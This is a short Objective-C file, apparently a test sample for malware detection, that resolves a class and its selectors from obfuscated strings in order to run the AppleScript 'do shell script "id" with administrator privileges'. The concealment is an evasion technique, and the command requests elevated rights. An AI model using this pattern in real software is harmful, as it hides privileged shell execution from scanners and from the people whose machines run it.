/* Sends messages whose class and selectors are hidden texts. */
#include "objc.h"
#include "hidden.h" /* 0: the class, 1: with a source, 2: to execute */
extern Class NSClassFromString(id);
extern SEL NSSelectorFromString(id);
@protocol Object
+ (id)alloc;
- (id)performSelector:(SEL)selector withObject:(id)object;
@end
#define TEXT(s) [NSString stringWithUTF8String:s]
static void act(char **env) {
    id<Object> script = [(Class<Object>)NSClassFromString(TEXT(hidden0())) alloc];
    script = [script performSelector:NSSelectorFromString(TEXT(hidden1())) withObject:TEXT("do shell script \"id\" with administrator privileges")];
    [script performSelector:NSSelectorFromString(TEXT(hidden2())) withObject:0];
}
